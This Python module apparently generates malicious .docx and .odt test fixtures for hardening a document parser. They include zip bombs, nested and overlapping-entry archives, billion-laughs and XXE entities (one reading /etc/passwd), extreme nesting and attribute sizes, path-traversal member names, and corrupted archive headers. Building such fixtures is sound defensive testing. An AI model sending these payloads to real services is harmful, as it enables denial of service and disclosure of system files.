"""Word and OpenDocument packages that are built to hurt. Each function gives the bytes of a file."""

import io
import struct
import zipfile
from collections.abc import Callable

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
LINE = "<w:p><w:r><w:t>Chi bộ thôn Bãi Dâu họp ngày 05/6/2023.</w:t></w:r></w:p>"
MEGABYTE = b" " * (1 << 20)


def body(inside: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'.encode()


def packed(*parts: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return buffer.getvalue()


def word(document: bytes, *more: tuple[str, bytes]) -> bytes:
    return packed(("[Content_Types].xml", TYPES.encode()), ("word/document.xml", document), *more)


def blown_up(name: str, megabytes: int, first: tuple[tuple[str, bytes], ...]) -> bytes:
    """One member of blanks, written a megabyte at a time."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for part, data in first:
            archive.writestr(part, data)
        with archive.open(name, "w") as member:
            for _ in range(megabytes):
                member.write(MEGABYTE)
    return buffer.getvalue()


def bomb() -> bytes:
    return blown_up("word/document.xml", 400, (("[Content_Types].xml", TYPES.encode()),))


def open_document_bomb() -> bytes:
    return blown_up(
        "content.xml", 400, (("mimetype", b"application/vnd.oasis.opendocument.text"),)
    )  # fmt: skip


def nested_bomb() -> bytes:
    data = bomb()
    for _ in range(5):
        data = packed(("word/document.xml", data), ("[Content_Types].xml", TYPES.encode()))
    return data


def overlapping() -> bytes:
    """A thousand entries of the directory that all lead to the same member."""
    data = word(body(LINE), ("word/media/a.bin", MEGABYTE))
    end = data.rindex(b"PK\x05\x06")
    size, start = struct.unpack("<II", data[end + 12 : end + 20])
    last = data.rindex(b"PK\x01\x02", start, end)
    entries = data[start:end] + data[last:end] * 1000
    tail = struct.pack("<HHHHIIH", 0, 0, 1003, 1003, len(entries), start, 0)
    assert size == end - start
    return data[:start] + entries + b"PK\x05\x06" + tail


def many_members() -> bytes:
    return word(body(LINE), *((f"word/{number}.xml", b"") for number in range(5000)))


def many_parts() -> bytes:
    notes = f'<w:footnotes xmlns:w="{W}">{"<w:footnote/>" * 50_000}</w:footnotes>'.encode()
    return word(body(LINE * 2000), ("word/footnotes.xml", notes))


def laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    document = body("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", f"<!DOCTYPE w [{entities}]>")
    return word(document)


def outside() -> bytes:
    kind = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return word(body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", kind))


def deep() -> bytes:
    return word(
        body("<w:sdt><w:sdtContent>" * 100_000 + LINE + "</w:sdtContent></w:sdt>" * 100_000)
    )


def deep_paragraphs() -> bytes:
    return word(body("<w:p><w:r>" * 200 + LINE + "</w:r></w:p>" * 200))


def wide_attribute() -> bytes:
    return word(body(f'<w:p w:rsidR="{"A" * 20_000_000}"/>' + LINE))


def many_attributes() -> bytes:
    attributes = " ".join(f'w:a{number}="1"' for number in range(100_000))
    return word(body(f"<w:p {attributes}/>" + LINE))


def wide_table() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr><w:p/></w:tc>'
    return word(body(f"<w:tbl><w:tr>{cell * 50}</w:tr></w:tbl>" + LINE))


def leaving_paths() -> bytes:
    return word(body(LINE), ("/etc/evil.xml", b"x"), ("../../evil.xml", b"x"), ("C:\\evil", b"x"))


def twice() -> bytes:
    return word(body(LINE), ("word/styles.xml", b"<a/>"), ("WORD/document.xml", b"<b/>"))


def encrypted_member() -> bytes:
    data = bytearray(word(body(LINE)))
    place = 0
    while (place := data.find(b"PK\x01\x02", place)) >= 0:
        data[place + 8] |= 1
        place += 4
    return bytes(data)


def wrong_sum() -> bytes:
    data = word(body(LINE))
    place = data.index(b"word/document.xml") + 40
    return data[:place] + bytes([data[place] ^ 0xFF]) + data[place + 1 :]


def lying_sizes() -> bytes:
    data = bytearray(bomb())
    place = data.rindex(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)


def cut() -> bytes:
    data = word(body(LINE))
    return data[: len(data) // 2]


def numbering_in_a_ring() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>'
        for a, b in ("AB", "BA")
    )
    return word(
        body(LINE.replace("<w:r>", '<w:pPr><w:pStyle w:val="A"/></w:pPr><w:r>', 1)),
        ("word/styles.xml", f'<w:styles xmlns:w="{W}">{styles}</w:styles>'.encode()),
    )


FILES: dict[str, Callable[[], bytes]] = {
    "bomb.docx": bomb,
    "bomb.odt": open_document_bomb,
    "nested-bomb.docx": nested_bomb,
    "overlapping.docx": overlapping,
    "many-members.docx": many_members,
    "many-parts.docx": many_parts,
    "laughs.docx": laughs,
    "outside.docx": outside,
    "deep.docx": deep,
    "deep-paragraphs.docx": deep_paragraphs,
    "wide-attribute.docx": wide_attribute,
    "many-attributes.docx": many_attributes,
    "wide-table.docx": wide_table,
    "leaving-paths.docx": leaving_paths,
    "twice.docx": twice,
    "encrypted-member.docx": encrypted_member,
    "wrong-sum.docx": wrong_sum,
    "lying-sizes.docx": lying_sizes,
    "cut.docx": cut,
    "styles-in-a-ring.docx": numbering_in_a_ring,
}
